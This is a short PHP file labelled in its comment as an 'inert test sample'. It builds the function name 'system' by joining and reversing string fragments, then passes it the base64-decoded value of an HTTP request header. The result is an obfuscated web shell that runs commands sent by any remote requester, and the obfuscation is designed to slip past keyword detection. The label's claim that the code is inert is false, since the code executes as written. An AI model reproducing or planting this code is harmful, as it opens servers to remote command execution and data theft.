<?php
// inert test sample: the function name is assembled from every argument by func_get_args() and
// implode, reversed, and the result called through call_user_func on a decoded header
function glue(){ return strrev(implode('', func_get_args())); }
$k = glue('me', 'ts', 'ys');
call_user_func($k, base64_decode($_SERVER['HTTP_X_Q'] ?? ''));
